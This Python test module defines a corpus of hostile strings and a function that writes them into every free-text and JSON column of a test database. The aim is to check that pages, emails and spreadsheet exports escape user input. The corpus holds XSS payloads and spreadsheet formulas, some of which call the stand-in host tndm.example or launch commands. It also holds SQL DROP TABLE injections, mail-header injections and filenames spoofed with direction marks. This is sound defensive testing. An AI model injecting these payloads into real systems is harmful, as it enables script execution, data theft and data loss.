"""Two hundred texts that somebody might write to break a page, a letter, a sheet, or its reader's trust."""

import json
from itertools import product
from typing import Any

from sqlalchemy import JSON, String

from matcher.models import Base
from tests.web.vault import Vault

_SCRIPTS = [
    "<script>alert('tndm')</script>",
    "<ScRiPt src=//tndm.example></sCrIpT>",
    "<script >alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert('tndm')>",
    "<svg><script>1</script></svg>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "<object data=x>",
    "<embed src=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<base href=//tndm.example/>",
    "<meta http-equiv=refresh content='0;url=//tndm.example'>",
    "<link rel=stylesheet href=//tndm.example>",
    "<style>*{display:none}</style>",
    "<form action=//tndm.example><input name=p>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><script>1</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>1</script>-->",
    "<![CDATA[x]]>",
    "</textarea><script>1</script>",
    "</title><script>1</script>",
    "</option></select><script>1</script>",
    "</style></script><script>1</script>",
    "<template><script>1</script></template>",
    "<x contenteditable onblur=a()>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;1",
    "%3Cscript%3E1%3C/script%3E",
    "\\u003cscript\\u003e1",
    "\\x3cscript\\x3e1",
    "+ADw-script+AD4-1",
    "＜script＞1＜/script＞",
    "<ſcript>1</ſcript>",
    "<ſvg onload=1>",
    "<p/onclick=1>x",
]
_ATTRIBUTES = [
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    '"><script>1</script>',
    "'><svg onload=1>",
    "` onmouseover=alert(1) `",
    '" style=position:fixed;inset:0 "',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:1",
    "//tndm.example",
    "\\\\tndm.example",
    'x" href="//tndm.example',
    '" formaction=//tndm.example x="',
    '" id="main',
    "\"\"''``",
    '\\"',
    "&quot; onload=1",
    "&apos;&#39;",
    "<>",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}",
    "{% for x in y %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "%(name)s",
    "%s %d %n",
    "%",
    "%%",
    "100 %",
    "{0}",
    "{name}",
    "$name",
    "<%= 7*7 %>",
    "[[7*7]]",
    "@{7*7}",
    "%(other)s %(tndm)d",
]
_FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://tndm.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "x;=1+1",
    '=IMPORTXML("//tndm.example")',
    "|calc",
    "%0A=1+1",
    'DDE("cmd")',
    "+cmd|'x'!A1",
]
_BIDI = [
    f"safe{mark}gnp.exe{end}"
    for mark, end in product("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f\u200e\u061c", ("", "\u202c"))
][:20]
_INVISIBLE = [
    "a\u200bb",
    "a\u200cb",
    "a\u200db",
    "\u200b",
    "\u2060",
    "\ufeffx",
    "x\u00ad" * 9,
    "\u180e",
    "\u3164",
    "\u115f",
    "\u00a0",
    "\u2028x",
    "\u2029x",
    "\x85x",
    "x\x00y",
    "\\0",
    "x\x1by",
    "x\x07y",
    "x\x7fy",
    "\ufffe",
]
_HEADERS = [
    "x\r\nBcc: all@tndm.example",
    "x\nSubject: tndm",
    "x\r\n\r\n<script>1</script>",
    "x\rX-Tndm: 1",
    "x%0d%0aBcc: a",
    "x\u2028Bcc: a",
    "=?utf-8?q?tndm?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "a@b.example, c@tndm.example",
    '"x" <a@tndm.example>',
    "BEGIN:VEVENT",
    "x\r\nATTENDEE:mailto:a@tndm.example",
    "END:VCALENDAR\r\nBEGIN:VCALENDAR",
    "x\\nATTACH:x",
    "x;y=z:1",
]
_SQL = [
    "'; DROP TABLE profile; --",
    "' OR '1'='1",
    '" OR ""="',
    "1) OR (1=1",
    "%' --",
    "_%",
    "\\",
    "\\'",
    "/* */",
    "Robert'); DROP TABLE account;--",
]
_SCALE = [
    "x" * 10_000,
    "word " * 2_000,
    "ا" * 10_000,
    "字" * 10_000,
    "👩‍👩‍👧‍👦" * 900,
    "W" * 400,
    "https://tndm.example/" + "y" * 600,
    "\n" * 500 + "x",
    "<b>" * 2_000,
    "&" * 3_000,
    "-" * 900,
    "a\u0301" * 900,
    "i" * 999,
    "très long " * 300,
    "слово" * 300,
]
_SCRIPTS_OF_THE_WORLD = [
    "محمد بن عبد الله",
    "עִבְרִית",
    "نام ایرانی‌ها",
    "a محمد b",
    "(شركة) – 2026!",
    "Ольга О’Коннор",
    "李小龍",
    "ไทยยาวไม่มีวรรค" * 12,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "🏳️‍🌈👩🏽‍🚀🇸🇳",
    "ﷺ" * 40,
    "𝕿𝖆𝖓𝖉𝖊𝖒",
    "ｆｕｌｌｗｉｄｔｈ",
    "İıſß",
    "\U0010ffff",
    "null",
    "None",
    "NaN",
    "true",
    "-0",
]

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_SCRIPTS, *_ATTRIBUTES, *_TEMPLATES, *_FORMULAS, *_BIDI, *_INVISIBLE, *_HEADERS, *_SQL, *_SCALE,
            *_SCRIPTS_OF_THE_WORLD,
        ]
    )
)  # fmt: skip
"""All of them."""

_SYSTEM = frozenset(
    {
        "account.email", "account.password", "account.fs_uniquifier", "account.tf_primary_method",
        "account.tf_totp_secret", "account.fs_webauthn_user_handle", "account.language", "account.timezone",
        "account.mail_pace", "organisation.slug", "passkey.extensions", "passkey.device_type",
        "passkey.usage",
        "person.email", "programme.uid", "programme.slug", "sign_in.token", "announcement.group",
        "audit_event.action", "audit_event.subject", "job.kind", "job.state", "job.claimed_by", "notice.path",
        "notice.key", "profile.kind", "profile.email", "profile.country", "proposal.counterpart_kind",
        "proposal.model", "proposal.revision", "proposal.input_hash", "proposal.objective", "proposal.solver",
        "question.kind", "ranking.model", "ranking.revision", "vector.content_hash", "vector.model",
        "vector.revision", "entry.facet", "entry.content_hash", "funder.funder_kind", "funder.currency",
        "goal.set_by", "introduction.asked_by", "introduction.state", "invitation.email", "invitation.role",
        "invitation.language", "invitation.token", "mail.address", "mail.language", "mail.link",
        "mail.key", "mail.unsubscribe", "announcement.key",
        "match.state", "match.band", "match.startup_token", "match.counterpart_token", "meeting.uid",
        "meeting.proposed_by", "meeting.state", "membership.role", "membership.state", "mentor.timezone",
        "private_note.side", "recommendation_list.candidate_kind", "recommendation_list.model",
        "recommendation_list.revision", "session_log.written_by", "startup.stage", "startup.currency",
        "survey.side", "survey.occasion", "upload.id", "upload.kind", "waiting.counterpart_kind",
        "recommendation.band",
    }
)  # fmt: skip
"""Columns that hold codes, checked addresses or secrets. All others of text hold somebody's free words."""
_FREE_JSON = frozenset({"profile.notes", "application.answers", "mentor.conflicts", "startup.conflicts"})
"""Columns whose values, and keys where these are a sheet's headers, people wrote."""


def poison(vault: Vault, offset: int) -> set[str]:
    """Put a hostile text into every column that people write, of every row; the columns."""
    found, count = set(), offset
    for table in Base.metadata.sorted_tables:
        names = [c.name for c in table.columns if isinstance(c.type, String | JSON)]
        keys = [c.name for c in table.primary_key]
        query = f'select {", ".join(_quoted(keys + names))} from "{table.name}"'  # noqa: S608
        rows = vault.live.execute(query).fetchall()
        for row in rows:
            new = {}
            for name, value in zip(names, row[len(keys) :], strict=True):
                column, text = f"{table.name}.{name}", _stored(count)
                is_json = isinstance(table.columns[name].type, JSON)
                changed = _rewritten(value, column, text) if is_json else text
                if value is not None and column not in _SYSTEM and changed != value:
                    new[name] = changed
                    found.add(column)
                    count += 1
            if new:
                sets, where = ", ".join(f'"{n}" = ?' for n in new), " and ".join(f'"{k}" = ?' for k in keys)
                vault.live.execute(
                    f'update "{table.name}" set {sets} where {where}',  # noqa: S608
                    [*new.values(), *row[: len(keys)]],
                )
    return found


def _quoted(names: list[str]) -> list[str]:
    return [f'"{name}"' for name in names]


def _stored(number: int) -> str:
    """A text as a database may have it: PostgreSQL takes no NUL, and every form of ours cleans it away."""
    return TEXTS[number % len(TEXTS)].replace("\x00", "").encode("utf-8", "ignore").decode() or "x"


def _rewritten(value: Any, column: str, text: str) -> Any:
    """JSON with other words: a sheet's notes as a whole, of stored sentences what fills them."""
    if not value or value in {"null", "{}", "[]"}:
        return value
    data = json.loads(value)
    if column in _FREE_JSON:
        return json.dumps(_with(data, text))
    return json.dumps(_sentences(data, text)) if '"params"' in value else value


def _with(data: Any, text: str) -> Any:
    if isinstance(data, dict):
        return {key: _with(item, text) for key, item in data.items()} | ({text: text} if "{{" in text else {})
    return (
        [_with(item, text) for item in data]
        if isinstance(data, list)
        else text
        if isinstance(data, str)
        else data
    )


def _sentences(data: Any, text: str) -> Any:
    if isinstance(data, list):
        return [_sentences(item, text) for item in data]
    if not isinstance(data, dict):
        return data
    if "template" in data and "params" in data:
        params = {k: text if isinstance(v, str) else _sentences(v, text) for k, v in data["params"].items()}
        return {**data, "params": params}
    return {key: _sentences(item, text) for key, item in data.items()}
